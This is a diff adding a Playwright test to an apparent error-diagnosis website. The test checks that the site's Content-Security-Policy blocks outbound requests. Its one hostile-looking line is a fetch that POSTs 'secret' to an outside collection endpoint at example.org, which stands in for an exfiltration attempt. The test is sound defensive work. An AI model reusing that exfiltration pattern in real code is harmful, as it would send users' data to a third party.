@@ -104,3 +104,15 @@ test('the home page has the paste box too', async ({ page }) => {
   await paste(page, 'SSL_ERROR_RX_RECORD_TOO_LONG');
   await expect(page.locator('[data-finding]').first()).toHaveAttribute('data-finding', 'browser-hangs-http-to-https-port');
 });
+
+test('the Content-Security-Policy stops any connection to another host', async ({ page }) => {
+  await page.goto(at('/diagnose/'));
+  const outcome = await page.evaluate(async () => {
+    const violations: string[] = [];
+    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
+    const tried = await fetch('https://example.org/collect', { method: 'POST', body: 'secret' }).then(() => 'sent', () => 'blocked');
+    return { tried, violations };
+  });
+  expect(outcome.tried).toBe('blocked');
+  expect(outcome.violations).toContain('connect-src');
+});
